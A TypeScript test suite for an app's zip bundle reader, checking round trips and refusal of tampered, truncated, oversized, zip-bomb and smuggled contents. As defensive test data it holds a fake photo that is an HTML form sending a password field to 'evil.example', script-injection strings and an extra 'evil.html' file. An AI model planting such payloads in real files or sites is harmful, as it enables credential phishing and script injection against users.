import { strToU8, strFromU8, unzipSync, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { canonical } from '../../src/domain/merge'
import {
  blobSource,
  bytesSource,
  readBundle,
  sha256Hex,
  writeBundleToBytes,
  type BundleError,
  type OpenBundle,
} from '../../src/io/bundle'
import { contentOf, demoRows, INFO, lookupTestRubric } from '../fixtures/exchange'

const rows = demoRows()

async function bundle(): Promise<Uint8Array> {
  return writeBundleToBytes(contentOf(rows), INFO)
}

async function refusal(bytes: Uint8Array, opts = {}): Promise<BundleError> {
  const r = await readBundle(bytesSource(bytes), { localRubric: lookupTestRubric, ...opts })
  if (r.ok) throw new Error('expected the bundle to be refused')
  return r.error
}

/** Rewrites parts of a zip; with `fixChecksums` the manifest is updated to match (a careful forger). */
async function rezip(
  bytes: Uint8Array,
  edit: (files: Record<string, Uint8Array>) => void,
  fixChecksums = false,
) {
  const files = unzipSync(bytes)
  edit(files)
  if (fixChecksums) {
    const manifest = JSON.parse(strFromU8(files['manifest.json']!))
    for (const name of Object.keys(manifest.parts)) {
      if (!files[name]) continue
      manifest.parts[name] = {
        sha256: await sha256Hex(files[name]!),
        size: files[name]!.byteLength,
      }
    }
    files['manifest.json'] = strToU8(JSON.stringify(manifest))
  }
  return zipSync(files)
}

describe('bundle round trip', () => {
  it('reads back every record and every photo byte for byte', async () => {
    const bytes = await bundle()
    const r = await readBundle(bytesSource(bytes), { localRubric: lookupTestRubric })
    expect(r.ok).toBe(true)
    const b = (r as { bundle: OpenBundle }).bundle
    expect(canonical(b.stores)).toBe(canonical(rows.stores))
    expect(canonical(b.evaluations)).toBe(canonical(rows.evaluations))
    expect(canonical(b.actions)).toBe(canonical(rows.actions))
    expect(b.certification.map((c) => c.id)).toEqual(['cert-1'])
    expect(b.rubrics.map((x) => `${x.id}@${x.version}`)).toEqual(['test-rubric@1.0.0'])
    expect(b.photos).toHaveLength(rows.photos.length)
    for (const p of rows.photos) {
      const got = await b.readPhoto(p.id)
      expect(Buffer.from(got.bytes).equals(Buffer.from(p.bytes))).toBe(true)
      expect(Buffer.from(got.thumbBytes).equals(Buffer.from(p.thumbBytes))).toBe(true)
      const meta = b.photos.find((m) => m.id === p.id)!
      expect([meta.mime, meta.width, meta.capturedAt, meta.evaluationId]).toEqual([
        p.mime,
        p.width,
        p.capturedAt,
        p.evaluationId,
      ])
    }
    expect(b.manifest.exportedBy).toEqual({ deviceId: 'device-a', evaluator: '测试员' })
    expect(b.manifest.counts.evaluations).toBe(rows.evaluations.length)
    expect(Object.keys(b.manifest.parts)).toContain('evaluations.json')
  })

  it('is deterministic: the same content and time give the same bytes', async () => {
    expect(Buffer.from(await bundle()).equals(Buffer.from(await bundle()))).toBe(true)
  })

  it('accepts a rubric it does not know when the bundle carries it', async () => {
    const r = await readBundle(bytesSource(await bundle()))
    expect(r.ok).toBe(true)
  })
})

describe('bundle refusals, each with its own message', () => {
  it('a changed score fails the checksum of evaluations.json', async () => {
    const bytes = await rezip(await bundle(), (f) => {
      const ev = JSON.parse(strFromU8(f['evaluations.json']!))
      const e = ev.evaluations.find(
        (x: { answers: Record<string, { value?: unknown }> }) =>
          typeof x.answers.greet?.value === 'number',
      )
      e.answers.greet.value = e.answers.greet.value === 30 ? 20 : 30
      f['evaluations.json'] = strToU8(JSON.stringify(ev))
    })
    expect(await refusal(bytes)).toEqual({ code: 'tampered', params: { part: 'evaluations.json' } })
  })

  it('a changed photo fails its own checksum', async () => {
    const name = `photos/${rows.photos[0]!.id}.png`
    const bytes = await rezip(await bundle(), (f) => {
      const b = f[name]!.slice()
      b[b.length - 2] = b[b.length - 2]! ^ 0xff
      f[name] = b
    })
    expect(await refusal(bytes)).toEqual({ code: 'tampered', params: { part: name } })
  })

  it('a removed photo is a missing part', async () => {
    const name = `photos/${rows.photos[3]!.id}.png`
    const bytes = await rezip(await bundle(), (f) => {
      delete f[name]
    })
    expect(await refusal(bytes)).toEqual({ code: 'missing-part', params: { part: name } })
  })

  it('a "photo" that is HTML under an image name is refused, checksums fixed or not', async () => {
    const p = rows.photos[0]!
    const name = `photos/${p.id}.png`
    const html = strToU8('<html><form action="https://evil.example"><input name=pw></form>')
    const sha = await sha256Hex(html)
    const bytes = await rezip(
      await bundle(),
      (f) => {
        f[name] = html
        const photos = JSON.parse(strFromU8(f['photos.json']!)) as { id: string; sha256: string }[]
        photos.find((x) => x.id === p.id)!.sha256 = sha
        f['photos.json'] = strToU8(JSON.stringify(photos))
      },
      true,
    )
    expect(await refusal(bytes)).toEqual({
      code: 'not-image',
      params: { part: name, mime: 'image/png' },
    })
  })

  it('a photo declared text/html or SVG is refused even when its bytes say so honestly', async () => {
    for (const [mime, body] of [
      ['text/html', '<html><body>login</body></html>'],
      ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><a href="x"/></svg>'],
    ] as const) {
      const p = rows.photos[0]!
      const name = `photos/${p.id}.png`
      const sha = await sha256Hex(strToU8(body))
      const bytes = await rezip(
        await bundle(),
        (f) => {
          f[name] = strToU8(body)
          const photos = JSON.parse(strFromU8(f['photos.json']!)) as {
            id: string
            mime: string
            sha256: string
          }[]
          Object.assign(
            photos.find((x) => x.id === p.id)!,
            { mime, sha256: sha },
          )
          f['photos.json'] = strToU8(JSON.stringify(photos))
        },
        true,
      )
      expect(await refusal(bytes)).toEqual({ code: 'not-image', params: { part: name, mime } })
    }
  })

  it('a cut-off file is truncated', async () => {
    const full = await bundle()
    expect((await refusal(full.slice(0, Math.floor(full.length / 2)))).code).toBe('truncated')
    expect((await refusal(full.slice(0, full.length - 10))).code).toBe('truncated')
  })

  it('a file that is not a zip', async () => {
    expect(await refusal(strToU8('<html><script>alert(1)</script></html>'))).toEqual({
      code: 'not-zip',
      params: {},
    })
    expect((await refusal(new Uint8Array(0))).code).toBe('not-zip')
  })

  it('a newer format version is refused as such, an unknown one too', async () => {
    const edit = (v: number) => (f: Record<string, Uint8Array>) => {
      const m = JSON.parse(strFromU8(f['manifest.json']!))
      m.formatVersion = v
      f['manifest.json'] = strToU8(JSON.stringify(m))
    }
    expect(await refusal(await rezip(await bundle(), edit(3)))).toEqual({
      code: 'newer-version',
      params: { found: 3, supported: 2 },
    })
    expect((await refusal(await rezip(await bundle(), edit(0)))).code).toBe('unknown-version')
  })

  it('another format (any zip) is refused as wrong format', async () => {
    const bytes = zipSync({
      'manifest.json': strToU8(JSON.stringify({ format: 'something-else', formatVersion: 1 })),
    })
    expect((await refusal(bytes)).code).toBe('wrong-format')
    expect(await refusal(zipSync({ 'a.txt': strToU8('x') }))).toEqual({
      code: 'missing-part',
      params: { part: 'manifest.json' },
    })
  })

  it('a huge declared size is refused from the directory, without inflating', async () => {
    const bytes = (await bundle()).slice()
    // Patch the central directory: stores.json claims 3 GB.
    const dv = new DataView(bytes.buffer)
    for (let i = bytes.length - 22; i >= 0; i--) {
      if (dv.getUint32(i, true) === 0x02014b50) {
        const nameLen = dv.getUint16(i + 28, true)
        const name = strFromU8(bytes.subarray(i + 46, i + 46 + nameLen))
        if (name === 'stores.json') dv.setUint32(i + 24, 3_000_000_000, true)
      }
    }
    const err = await refusal(bytes)
    expect(err.code).toBe('too-large')
    expect(err.params).toMatchObject({ what: 'part', part: 'stores.json', declared: 3_000_000_000 })
  })

  it('a zip bomb (extreme compression ratio) is refused before inflating', async () => {
    const bomb = zipSync({ 'stores.json': new Uint8Array(8 * 1024 * 1024) }, { level: 9 })
    const err = await refusal(bomb)
    expect(err.code).toBe('too-large')
    expect(err.params.what).toBe('ratio')
  })

  it('an entry that inflates past its declared size is cut off', async () => {
    const bytes = zipSync({
      'manifest.json': strToU8(
        JSON.stringify({ format: 'x', formatVersion: 1, pad: 'a'.repeat(5000) }),
      ),
    })
    const dv = new DataView(bytes.buffer)
    for (let i = bytes.length - 22; i >= 0; i--)
      if (dv.getUint32(i, true) === 0x02014b50) dv.setUint32(i + 24, 100, true)
    expect(await refusal(bytes)).toMatchObject({
      code: 'too-large',
      params: { part: 'manifest.json', declared: 100 },
    })
  })

  it('a record with a wrong value names the part and the path', async () => {
    const bytes = await rezip(
      await bundle(),
      (f) => {
        const ev = JSON.parse(strFromU8(f['evaluations.json']!))
        ev.evaluations[4].status = 'approved'
        f['evaluations.json'] = strToU8(JSON.stringify(ev))
      },
      true,
    )
    const err = await refusal(bytes)
    expect(err.code).toBe('bad-record')
    expect(err.params).toMatchObject({ part: 'evaluations.json', path: 'evaluations.4.status' })
  })

  it('an extra file smuggled into the zip is refused', async () => {
    const bytes = await rezip(await bundle(), (f) => {
      f['photos/evil.html'] = strToU8('<script>alert(1)</script>')
    })
    expect(await refusal(bytes)).toEqual({
      code: 'unexpected-part',
      params: { part: 'photos/evil.html' },
    })
  })

  it('an evaluation scored with a rubric that is neither known nor carried', async () => {
    const bytes = await rezip(await bundle(), (f) => {
      delete f['rubrics/test-rubric@1.0.0.json']
      const m = JSON.parse(strFromU8(f['manifest.json']!))
      delete m.parts['rubrics/test-rubric@1.0.0.json']
      m.counts.rubrics = 0
      f['manifest.json'] = strToU8(JSON.stringify(m))
    })
    const err = await refusal(bytes, { localRubric: () => undefined })
    expect(err.code).toBe('unknown-rubric')
    expect(err.params.rubric).toBe('test-rubric@1.0.0')
  })

  it('a carried rubric that differs from the local text of the same version', async () => {
    const other = {
      ...lookupTestRubric('test-rubric', '1.0.0')!,
      title: { zh: '别的', en: 'Other' },
    }
    const err = await refusal(await bundle(), { localRubric: () => other })
    expect(err).toEqual({ code: 'rubric-mismatch', params: { rubric: 'test-rubric@1.0.0' } })
  })

  it('a backup offered as an exchange bundle is refused', async () => {
    const backup = await writeBundleToBytes(contentOf(rows), { ...INFO, kind: 'backup' })
    expect(await refusal(backup, { expectKind: 'exchange' })).toEqual({
      code: 'wrong-kind',
      params: { found: 'backup', expected: 'exchange' },
    })
  })
})

describe('reading a File in windows', () => {
  /** A Blob that counts how often its bytes are fetched (each is a browser round trip). */
  function countingBlob(bytes: Uint8Array) {
    const blob = new Blob([bytes as Uint8Array<ArrayBuffer>])
    const counter = { slices: 0 }
    const counted = {
      size: blob.size,
      slice: (start?: number, end?: number) => {
        counter.slices++
        return blob.slice(start, end)
      },
    } as unknown as Blob
    return { blob: counted, counter }
  }
  const bytes = Uint8Array.from({ length: 20_000 }, (_, i) => (i * 7919) % 251)

  it('gives the same bytes as reading the whole file, for any offset and length', async () => {
    const { blob } = countingBlob(bytes)
    const windowed = blobSource(blob, 1024)
    const whole = bytesSource(bytes)
    let x = 12345
    const next = (n: number) => ((x = (x * 1103515245 + 12345) % 2 ** 31), x % n)
    for (let i = 0; i < 500; i++) {
      const offset = next(21_000) // sometimes past the end, as a truncated file is read
      const length = next(i % 10 === 0 ? 5_000 : 300) // sometimes larger than the window
      expect(await windowed.read(offset, length)).toEqual(await whole.read(offset, length))
    }
  })

  it('reads small pieces in file order with one Blob read per window', async () => {
    const { blob, counter } = countingBlob(bytes)
    const src = blobSource(blob, 4096)
    for (let offset = 0; offset < bytes.byteLength; offset += 30)
      expect((await src.read(offset, 30))[0]).toBe(bytes[offset])
    // 667 reads of 30 bytes; a read straddling a window's end starts the next window.
    expect(counter.slices).toBeLessThanOrEqual(6)
  })
})
